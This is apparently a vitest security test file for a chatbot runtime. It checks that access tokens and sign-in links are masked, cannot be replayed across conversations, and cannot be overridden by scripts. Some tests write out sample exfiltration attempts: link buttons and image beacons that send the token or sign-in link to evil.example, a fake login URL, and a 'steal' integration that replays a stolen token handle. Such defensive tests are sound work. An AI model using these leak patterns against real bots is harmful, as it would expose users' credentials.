import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import type { BotDocument, Interaction } from '../bot/document.ts';
import { calls, dialog, integration, says, snippet, starter } from './order-bot.test-parts.ts';
import { recipeBot } from './recipe-bot.test-parts.ts';
import { type Chat, type RuntimeStage, setRuntimeStage } from './stage.test-parts.ts';

let stage: RuntimeStage;
beforeAll(async () => {
  stage = await setRuntimeStage({ credential: { mode: 'recipe' } });
  await stage.runtime.start();
});
afterAll(() => stage.close());

/** A dialog that begins with `say me` and whose first interaction runs this code. */
const scripted = (id: string, code: string, ...more: Interaction[]) =>
  dialog(
    id,
    starter(`${id}-s`, `say ${id}`),
    { id: `${id}-t`, name: `${id}-t`, type: 'text', text: `${id} ran`, pre_process: code },
    ...more,
  );

async function signedIn(more: ReturnType<typeof dialog>[] = [], integrations: ReturnType<typeof integration>[] = []) {
  const document = recipeBot(stage.brand.url, { more });
  document.integrations.push(...integrations);
  const chat = await stage.chat(await stage.publish(document));
  stage.brand.misbehave('unauthorized', { times: 1 });
  await chat.say('where is my order?');
  await chat.hears('Please verify');
  stage.brand.misbehave();
  await chat.signIn();
  await chat.hears('It is a Lantern.');
  await chat.quiet();
  return chat;
}

async function everythingShown(chat: Chat): Promise<string> {
  const rows = await stage.db.all('SELECT body FROM event WHERE conversation_id = ?', chat.conversation_id);
  return JSON.stringify([await chat.events(), await chat.trace(), rows]);
}

describe('the token handle', () => {
  test('TK-05 TK-11: logged, said, sent as quick reply and button it shows as dots; the handle is all a script gets', async () => {
    const code = `${snippet}
      var t = botContext.getWebViewVariable('cidp_accessToken');
      botContext.printDebugMessage('logged ' + t);
      botContext.sendMessage('said ' + t + ' of ' + t.length);
      botContext.setBotVariable('copy', t, true, false);
      botContext.setBotVariable('half', t.slice(0, 20), true, false);`;
    const buttons: Interaction = {
      id: 'leak-b',
      name: 'leak-b',
      type: 'button_question',
      text: 'Copied {$botContext.copy} and {$botContext.half}',
      buttons: [
        { label: '{$botContext.copy}', type: 'postback', callback: '{$botContext.copy}' },
        { label: 'Out', type: 'link', callback: 'https://evil.example/{$botContext.copy}' },
      ],
    };
    const chat = await signedIn([scripted('leak', code, buttons)]);
    await chat.say('say leak');
    await chat.hears('Copied');
    expect(await chat.texts()).toContain('said ••• of 35');
    const shown = await everythingShown(chat);
    expect(shown).not.toMatch(/errand:token/);
    const bearer = stage.brand.requests().at(-1)?.headers['authorization'] ?? '';
    expect(bearer).toMatch(/^Bearer [\w-]{20,}$/);
    expect(shown).not.toContain(bearer.slice('Bearer '.length));
  });

  test('TK-07: a message, image or link of the author renders the token as dots', async () => {
    const chat = await signedIn([
      dialog(
        'tk7',
        starter('tk7-s', 'tk7'),
        says('tk7-t', 'Token {$botContext.cidp_accessToken} and {$botContext.cidp_accessToken}'),
      ),
    ]);
    await chat.say('tk7');
    expect(await chat.hears('Token ••• and •••')).toMatchObject({ from: 'bot' });
  });

  test('TK-10: the handle of another conversation is refused, and no token goes out for it', async () => {
    const other = await signedIn();
    const state = JSON.parse((await other.row()).state);
    const stolen = state.engine.variables.session.cidp_accessToken;
    expect(stolen).toMatch(/^errand:token:[\w-]{22}$/);
    const use = `botContext.setBotVariable('cidp_accessToken', botContext.getCurrentUserMessage().slice(8), true, false);
      botContext.setBotVariable('mine', botContext.getCurrentUserMessage().slice(8), true, false);`;
    const thief = await signedIn(
      [
        dialog(
          'steal',
          starter('steal-s', 'say use *'),
          calls('steal-c', 'Steal', { pre_process: use }),
          says('steal-t', 'Used.'),
        ),
      ],
      [
        integration('Steal', {
          url: `${stage.brand.url}/steal?t={$botContext.mine}`,
          credential: 'orders',
          headers: [{ key: 'Authorization', value: 'Bearer {$botContext.mine}' }],
        }),
      ],
    );
    const before = stage.brand.requests().length;
    await thief.say(`say use ${stolen}`);
    await thief.hears('Used.');
    const [request] = stage.brand.requests().slice(before);
    expect(request?.headers['authorization'] ?? '').not.toMatch(/Bearer [\w-]{20,}/);
    expect(JSON.stringify(request)).not.toContain('errand:token');
    expect(JSON.stringify(await thief.trace())).toContain('cidp_accessToken takes only what Errand gives');
  });

  test('is false to scripts while there is no connection, and true in a global function too', async () => {
    const document = recipeBot(stage.brand.url, {
      more: [scripted('has', "botContext.sendMessage('has ' + (hasToken() ? 'one' : 'none'));")],
    });
    document.global_functions = "function hasToken() { return !!botContext.getWebViewVariable('cidp_accessToken'); }";
    const chat = await stage.chat(await stage.publish(document));
    await chat.say('say has');
    await chat.hears('has none');
    stage.brand.misbehave('unauthorized', { times: 1 });
    await chat.say('where is my order?');
    await chat.hears('Please verify');
    await chat.signIn();
    await chat.hears('It is a Lantern.');
    await chat.say('say has');
    await chat.hears('has one');
    await chat.say('sign out');
    await chat.say('say has');
    expect(await chat.hears('has none', 2)).toMatchObject({ from: 'bot' });
  });
});

describe('what a script may not set', () => {
  test('a link or a token of its own making is ignored, and the trace says so', async () => {
    const code = `botContext.setBotVariable('external_auth_url', 'https://evil.example/login', true, false);
      botContext.setBotVariable('cidp_accessToken', 'my own token', true, false);`;
    const link: Interaction = {
      id: 'evil-b',
      name: 'evil-b',
      type: 'button_question',
      text: 'Sign in here',
      buttons: [{ label: 'Login', type: 'link', callback: '{$botContext.external_auth_url}' }],
    };
    const document = recipeBot(stage.brand.url, { more: [scripted('evil', code, link)] });
    const chat = await stage.chat(await stage.publish(document));
    await chat.say('say evil');
    await chat.hears('evil ran');
    await chat.quiet();
    expect(JSON.stringify(await chat.events())).not.toMatch(/evil\.example|Sign in here/);
    const trace = JSON.stringify(await chat.trace());
    for (const name of ['external_auth_url', 'cidp_accessToken'])
      expect(trace).toContain(`${name} takes only what Errand gives`);
  });

  test('C11: a sign-in link in a call, a variable or an answer of the brand never leaves the conversation', async () => {
    const chat = await signedIn(
      [dialog('send', starter('send-s', 'send'), calls('send-c', 'Send'), says('send-t', 'Sent.'))],
      [
        integration('Send', {
          method: 'POST',
          url: `${stage.brand.url}/send`,
          body: '{"link":"{$botContext.external_auth_url}"}',
        }),
      ],
    );
    const before = stage.brand.requests().length;
    await chat.say('send');
    await chat.hears('Sent.');
    const [request] = stage.brand.requests().slice(before);
    expect(request?.body).not.toMatch(/sign-in/);
  });
});

const url = '{$botContext.external_auth_url}';
const posts = (more: Partial<BotDocument['integrations'][number]>) =>
  integration('Tell', { method: 'POST', url: `${stage.brand.url}/tell`, ...more });

/** A conversation whose sign-in link was offered, at a bot with this dialog and an integration `Tell`. */
async function offered(...more: ReturnType<typeof dialog>[]): Promise<{ chat: Chat; link: string }> {
  const document = recipeBot(stage.brand.url, { more });
  document.integrations.push(posts({ body: '{"said":"{$botContext.kept}","now":"{$userMessage}"}' }));
  const chat = await stage.chat(await stage.publish(document));
  stage.brand.misbehave('unauthorized', { times: 1 });
  await chat.say('where is my order?');
  const shown = await chat.hears('Please verify');
  stage.brand.misbehave();
  await chat.quiet();
  const link = /http[^"]*\/sign-in\/[\w-]+/.exec(JSON.stringify(shown))?.[0] ?? '';
  expect(link).not.toBe('');
  return { chat, link };
}

const secretOf = (link: string) => link.slice(link.lastIndexOf('/') + 1);
const keeps = `var said = botContext.getCurrentUserMessage();
  botContext.setBotVariable('kept', said, true, false);
  botContext.printDebugMessage('heard ' + said);`;

/** All that the database knows of this conversation, and the brand's last request. */
async function everythingKept(chat: Chat): Promise<string> {
  const of = (table: string) => stage.db.all(`SELECT * FROM ${table} WHERE conversation_id = ?`, chat.conversation_id);
  const rows = [await of('event'), await of('inbox'), await of('trace'), await chat.row()];
  return JSON.stringify([rows, await chat.trace(), stage.brand.requests().at(-1)]);
}

describe('a sign-in link', () => {
  test('in what a quick reply posts back comes to nobody: dots on the way out', async () => {
    const asks: Interaction = {
      id: 'pay-q',
      name: 'pay-q',
      type: 'quick_reply',
      text: 'Pay?',
      replies: [{ title: 'Pay', payload: `pay ${url}` }],
      process_user_response: keeps,
    };
    const { chat } = await offered(
      dialog('pay', starter('pay-s', 'checkout'), asks, calls('pay-c', 'Tell'), says('pay-t', 'Told.')),
    );
    await chat.say('checkout');
    const shown = await chat.hears('Pay?');
    expect(shown['quick_replies']).toEqual([{ title: 'Pay', payload: 'pay •••' }]);
    await chat.tap('pay •••', 'Pay');
    await chat.hears('Told.');
    await chat.quiet();
    expect(stage.brand.requests().at(-1)?.body).toContain('pay •••');
    expect(await everythingKept(chat)).not.toContain('/sign-in/');
  });

  test('inside of another address, of a picture or a button, is never made', async () => {
    const evil = `https://evil.example/a.png?u=${url}`;
    const button: Interaction = {
      id: 'b',
      name: 'b',
      type: 'button_question',
      text: `Look: ${evil}`,
      buttons: [{ label: 'Look', type: 'link', callback: evil }],
    };
    const content = `{"type":"vertical","elements":[{"type":"image","url":"${evil}"},{"type":"text","text":"Pictured"}]}`;
    const beacon: Interaction = { id: 'c', name: 'c', type: 'universal', content };
    const { chat } = await offered(
      dialog('leak', starter('leak-s', 'button'), button),
      dialog('beacon', starter('beacon-s', 'picture'), beacon),
    );
    await chat.say('button');
    expect(await chat.hears('Look: ')).toMatchObject({ text: 'Look: https://evil.example/a.png?u=•••' });
    await chat.say('picture');
    await chat.quiet();
    const later = JSON.stringify((await chat.events()).filter(({ seq }) => seq > 3));
    expect(later).toContain('Pictured');
    expect(later).not.toMatch(/evil\.example[^"]*sign-in|"type":"image"/);
    expect(JSON.stringify(await chat.trace())).toContain('without the sign-in link in it');
  });

  test('that the consumer sends back, however she does it, is masked before it is kept', async () => {
    const asks: Interaction = {
      id: 'tell-q',
      name: 'tell-q',
      type: 'text_question',
      text: 'What do you see?',
      process_user_response: keeps,
    };
    const { chat, link } = await offered(
      dialog('tell', starter('tell-s', 'tell'), asks, calls('tell-c', 'Tell'), says('tell-t', 'Told {$userMessage}')),
    );
    const handle = `errand:sign-in:${await chat.offered()}`;
    const ways: [text: string, masked: string][] = [
      [`I see ${link}.`, `I see ${link.replace(secretOf(link), '•••')}.`],
      [encodeURIComponent(link), encodeURIComponent(link).replace(secretOf(link), '•••')],
      [`and ${handle}`, 'and •••'],
    ];
    for (const [at, [text, masked]] of ways.entries()) {
      await chat.say('tell');
      await chat.hears('What do you see?', at + 1);
      await chat.say(text);
      await chat.hears(`Told ${masked}`);
      await chat.quiet();
      expect((await chat.events()).filter(({ from }) => from === 'consumer').at(-1)).toMatchObject({ text: masked });
    }
    await chat.say('tell');
    await chat.hears('What do you see?', ways.length + 1);
    const metadata = [{ [link]: { deep: [link] } }];
    const tapped = { id: 'tapped', postback: `pay ${link}`, label: link, metadata };
    const { seq } = await stage.runtime.accept(chat.session, tapped);
    await chat.hears('Told pay ');
    expect(await stage.runtime.accept(chat.session, tapped)).toEqual({ seq });
    await chat.quiet();
    expect(await everythingKept(chat)).not.toContain(secretOf(link));
    const mine = (await chat.events()).filter(({ from }) => from === 'consumer');
    expect(mine.at(-1)).toMatchObject({ text: link.replace(secretOf(link), '•••'), metadata: [{}] });
    expect(JSON.stringify(mine)).not.toContain(secretOf(link));
  });
});
